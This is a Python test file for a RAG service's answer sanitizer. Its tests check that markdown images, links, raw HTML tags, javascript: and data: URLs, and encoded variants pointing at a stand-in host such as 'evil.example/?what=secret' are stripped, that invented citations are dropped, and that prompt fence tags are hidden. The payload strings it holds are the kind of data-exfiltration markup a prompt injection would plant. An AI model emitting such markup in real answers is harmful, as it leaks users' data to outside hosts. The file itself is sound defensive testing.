"""Answers: nothing that a document smuggled in leads elsewhere, and no source is made up."""

from __future__ import annotations

import re
from html import unescape
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ragdeploy_service.rag.answering.answer_text import SafeText, safe

STOLEN = "https://evil.example/?what=secret"


def clean(text, sources=3, **options):
    return safe(text, sources=sources, **options)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Look: ![chart]({STOLEN})", "Look: chart"),
        (f"![chart]({STOLEN} 'title') is it", "chart is it"),
        (f"![chart](<{STOLEN}>)", "chart"),
        ("![a](//evil.example/x)", "a"),
        ("![a](/\\evil.example/x)", "a"),
        ("![a](&#104;ttps://evil.example)", "a"),
        ("![a](data:image/png;base64,AAAA)", "a"),
        ("[a](javascript:alert(1))", "a"),
        (f"Click [here]({STOLEN}).", "Click here."),
        (f"[![a]({STOLEN})]({STOLEN})", "[a]"),
        (f"![a][x]\n\n[x]: {STOLEN}", "![a][x]\n\n[x] : `https://evil.example/?what=secret`"),
        (f"<img src='{STOLEN}'>", "< img src='`https://evil.example/?what=secret`'>"),
        (f"See <{STOLEN}>.", "See `https://evil.example/?what=secret`."),
        (f"See {STOLEN}.", "See `https://evil.example/?what=secret`."),
        ("See www.evil.example/x, it", "See `www.evil.example/x`, it"),
        ("参见https://evil.example/x。好", "参见`https://evil.example/x`。好"),
    ],
)
def test_nothing_leads_to_another_host(text, expected):
    assert clean(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Scaling is [described](guide.md#scaling) and [below](#below).",
        "```html\n<img src='https://a.example/b.png'>\n```\nThat is it.",
        "~~~\n[a](https://a.example)\n~~~",
        "Use `items[7]` and `<div>` and `a < b`, or Vec<String>.",
        "Is a < b and b > c? Yes! [sic]",
        "- one\n- two\n\n| a | b |\n|---|---|",
        "Ask with `curl https://localhost/query`.",
        "dict[str, int]: a mapping",
        "Set it so [1]:\n\n```yaml\na: 1\n```",
        "So [1]:\n- one\n- **two** [2]: `code`",
        "In [2024] it was \\[so\\] ~ 5.",
    ],
)
def test_other_text_stays_as_it_is(text):
    assert clean(text) == text


def test_links_to_hosts_of_ours_stay():
    text = "[docs](https://Docs.Example/a?b=1), <https://docs.example/>, https://docs.example/x."
    assert clean(text, hosts={"docs.example"}) == text
    for other in (
        "https://docs.example.evil/",
        "https://docs.example@evil/",
        "ftp://docs.example/",
    ):
        assert f"]({other}" not in clean(f"[a]({other})", hosts={"docs.example"})


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It scales [1].", "It scales [1]."),
        ("It scales [7].", "It scales."),
        ("It [0] scales[4] well [2][12].", "It scales well [2]."),
        ("Both [1, 7] say [7, 9] so [2,3].", "Both [1] say so [2, 3]."),
        ("All of them [1-3] or [2\u20139].", "All of them [1, 2, 3] or [2, 3]."),
        ("副本【1】和【9】。", "副本[1]和。"),
        (f"[7]({STOLEN}) and [1]({STOLEN})", "and [1]"),
        ("```\na[7]\n```", "```\na[7]\n```"),
    ],
)
def test_a_source_that_is_not_there_is_not_cited(text, expected):
    assert clean(text) == expected


def test_the_fence_of_the_prompt_is_not_given_away():
    assert clean("So <passage-0123456789abcdef>it is</passage-0123456789abcdef>.") == "So it is."


def test_text_is_held_back_only_while_it_may_be_dangerous():
    text = SafeText(sources=3)
    assert text.feed("It scales ") == "It scales"
    assert text.feed("with [") == " with"
    assert text.feed("1] replicas ") == " [1] replicas"
    assert text.feed("![x](http") == ""
    assert text.feed("s://evil.example) and more") == " x and more"
    assert text.end() == ""


def test_blanks_around_an_answer_are_dropped():
    assert clean("\n  It scales.\n\n") == "It scales."


SCRAPS = st.sampled_from(
    [
        *("[", "]", "(", ")", "!", "<", ">", "`", "``", "```", "~~~", "\\", ":", "\n", "\n\n", " "),
        *(
            "x",
            "[7]",
            "[1]",
            "![",
            "](",
            "](/a",
            "[x]: ",
            "[x]",
            "- ",
            "> ",
            "    ",
            "  ",
            '"',
            "'",
        ),
        *("https://evil.example", "//evil.example", "<https://evil.example>", "www.evil.example"),
        *("<img src=https://evil.example>", "<img\nsrc=//evil.example>", "<div>", "</div>", "<!--"),
        *("javascript:x", "&#47;", "/\\evil.example", "![x](https://evil.example)", "-->", "\t"),
        *("<passage-0123456789abcdef>", "【7】", "<a href='//evil.example'>", "guide.md", "\u00a0"),
    ]
)
TEXTS = st.lists(SCRAPS, max_size=14).map("".join)
READERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("gfm-like", {"linkify": False})]
# What makes a browser load or follow something.
TARGET = re.compile(
    r"<[a-z][^<>]*?\b(?:src|href)\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s>]+)", re.IGNORECASE
)


def hosts(shown):
    """Where a page at here.example would lead, as a browser reads it."""
    for target in TARGET.findall(shown):
        url = re.sub(r"[\t\n\r]", "", unescape(target.strip("\"'"))).replace("\\", "/")
        found = urlsplit(urljoin("https://here.example/a/b", url))
        yield found.netloc if found.scheme == "https" else found.scheme


@settings(max_examples=1500, deadline=None)
@given(TEXTS)
@example("a\n`b\n- c ![x](https://evil.example) `")
@example("<div>\n```\n<img src=https://evil.example>")
@example("[x]<passage-0123456789abcdef>(//evil.example)")
@example("![x](//evil.example/((x)))")
@example("[x]: //evil.example\n\n[x]")
@example("[x][7](https://evil.example)(https://evil.example)")
@example("- a\n  ```\n![x](https://evil.example)")
def test_whatever_is_written_no_reader_is_led_elsewhere(text):
    for reader in READERS:
        shown = reader.render(clean(text))
        assert set(hosts(shown)) <= {"here.example"}, shown


@settings(max_examples=500, deadline=None)
@given(TEXTS, st.lists(st.integers(1, 7), max_size=30))
@example("    ~~~https://evil.example", [4])
def test_pieces_make_the_same_text_however_they_are_cut(text, sizes):
    whole = clean(text)
    reader, out, rest = SafeText(sources=3), "", text
    for size in sizes:
        out += reader.feed(rest[:size])
        rest = rest[size:]
    assert out + reader.feed(rest) + reader.end() == whole
